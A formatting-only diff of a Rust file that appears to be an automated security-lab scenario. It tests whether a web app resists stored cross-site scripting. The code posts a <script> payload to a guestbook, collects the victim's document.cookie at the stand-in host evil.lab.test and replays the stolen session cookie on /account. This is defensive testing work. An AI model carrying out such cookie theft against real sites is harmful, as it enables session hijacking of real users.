@@ -15,7 +15,9 @@ use crate::lab::{RunContext, RunError, plant_cookie};
 use crate::outcome::{Actor, Verdict};
 
 pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
-    let evil = EvilSite::start().await.map_err(|e| RunError::Lab(format!("could not start evil.lab.test: {e}")))?;
+    let evil = EvilSite::start()
+        .await
+        .map_err(|e| RunError::Lab(format!("could not start evil.lab.test: {e}")))?;
     let token = format!("{:016x}", rand::rng().random::<u64>());
     let collector = evil.url(&format!("/collect/{token}?c="));
     let payload = EXFILTRATE_COOKIES_TEMPLATE.replace("{collector}", collector.as_str());
@@ -24,11 +26,20 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
     evil.join(&mut attacker.network);
     log_in(ctx, &mut attacker, &ctx.attacker).await?;
     let guestbook = attacker.open(&ctx.app_url("/guestbook"), None).await?;
-    let posted = attacker.submit_form(&guestbook, "/guestbook", &[("message", &payload)]).await?;
+    let posted = attacker
+        .submit_form(&guestbook, "/guestbook", &[("message", &payload)])
+        .await?;
     ctx.step(
         Actor::Attacker,
-        format!("logged in as {} and posted a guestbook entry with a <script> payload", ctx.attacker.username),
-        format!("the app answered {} at {}", posted.status, posted.url.path()),
+        format!(
+            "logged in as {} and posted a guestbook entry with a <script> payload",
+            ctx.attacker.username
+        ),
+        format!(
+            "the app answered {} at {}",
+            posted.status,
+            posted.url.path()
+        ),
     );
 
     let mut victim = ctx.browser("victim");
@@ -46,25 +57,49 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
         })
         .collect();
     let browser_did = describe_effects(&effects, &page.body);
-    ctx.step(Actor::Victim, format!("{} logged in and viewed the guestbook", ctx.victim.username), &browser_did);
-    if effects.iter().all(|e| !matches!(e, ScriptEffect::Exfiltrated { .. })) {
+    ctx.step(
+        Actor::Victim,
+        format!("{} logged in and viewed the guestbook", ctx.victim.username),
+        &browser_did,
+    );
+    if effects
+        .iter()
+        .all(|e| !matches!(e, ScriptEffect::Exfiltrated { .. }))
+    {
         return Ok(Verdict::blocked(browser_did));
     }
 
     let reports = evil.collected(&token);
     let stolen: Vec<String> = reports
         .iter()
-        .flat_map(|r| r.data.split(';').map(|c| c.trim().to_string()).collect::<Vec<_>>())
+        .flat_map(|r| {
+            r.data
+                .split(';')
+                .map(|c| c.trim().to_string())
+                .collect::<Vec<_>>()
+        })
         .filter_map(|pair| {
             let (name, value) = pair.split_once('=')?;
             (name == ctx.target.session_cookie).then(|| value.to_string())
         })
         .collect();
-    let received = reports.iter().map(|r| format!("{:?}", r.data)).collect::<Vec<_>>().join(", ");
+    let received = reports
+        .iter()
+        .map(|r| format!("{:?}", r.data))
+        .collect::<Vec<_>>()
+        .join(", ");
     ctx.step(
         Actor::Attacker,
         "read the collector on evil.lab.test",
-        format!("received {} report(s): {}", reports.len(), if received.is_empty() { "none".into() } else { received }),
+        format!(
+            "received {} report(s): {}",
+            reports.len(),
+            if received.is_empty() {
+                "none".into()
+            } else {
+                received
+            }
+        ),
     );
     let Some(stolen_id) = stolen.first() else {
         let evidence = format!(
@@ -83,28 +118,49 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
             "the collector received the session cookie from document.cookie; replayed, it showed {}'s private note",
             ctx.victim.username
         );
-        ctx.step(Actor::Attacker, "replayed the stolen session cookie on /account", &evidence);
+        ctx.step(
+            Actor::Attacker,
+            "replayed the stolen session cookie on /account",
+            &evidence,
+        );
         Ok(Verdict::compromised(evidence))
     } else {
-        let evidence = format!("the stolen cookie opened nothing: /account answered {}", probe.describe());
-        ctx.step(Actor::Attacker, "replayed the stolen session cookie on /account", &evidence);
+        let evidence = format!(
+            "the stolen cookie opened nothing: /account answered {}",
+            probe.describe()
+        );
+        ctx.step(
+            Actor::Attacker,
+            "replayed the stolen session cookie on /account",
+            &evidence,
+        );
         Ok(Verdict::blocked(evidence))
     }
 }
 
 /// What the victim's browser did with the attacker's entry, in one line.
 fn describe_effects(effects: &[&ScriptEffect], body: &str) -> String {
-    if let Some(ScriptEffect::Exfiltrated { document_cookie, .. }) =
-        effects.iter().find(|e| matches!(e, ScriptEffect::Exfiltrated { .. }))
+    if let Some(ScriptEffect::Exfiltrated {
+        document_cookie, ..
+    }) = effects
+        .iter()
+        .find(|e| matches!(e, ScriptEffect::Exfiltrated { .. }))
     {
-        return format!("the script ran and sent document.cookie = {document_cookie:?} to evil.lab.test");
+        return format!(
+            "the script ran and sent document.cookie = {document_cookie:?} to evil.lab.test"
+        );
     }
-    if let Some(ScriptEffect::BlockedByCsp { policy }) = effects.iter().find(|e| matches!(e, ScriptEffect::BlockedByCsp { .. }))
+    if let Some(ScriptEffect::BlockedByCsp { policy }) = effects
+        .iter()
+        .find(|e| matches!(e, ScriptEffect::BlockedByCsp { .. }))
     {
-        return format!("the browser refused to run the inline script: Content-Security-Policy `{policy}`");
+        return format!(
+            "the browser refused to run the inline script: Content-Security-Policy `{policy}`"
+        );
     }
     if body.contains("&lt;script&gt;") || body.contains("&lt;script>") {
-        return "the payload reached the page as escaped text, so there was no script to run".into();
+        return "the payload reached the page as escaped text, so there was no script to run"
+            .into();
     }
     "no script from the payload was on the page".into()
 }
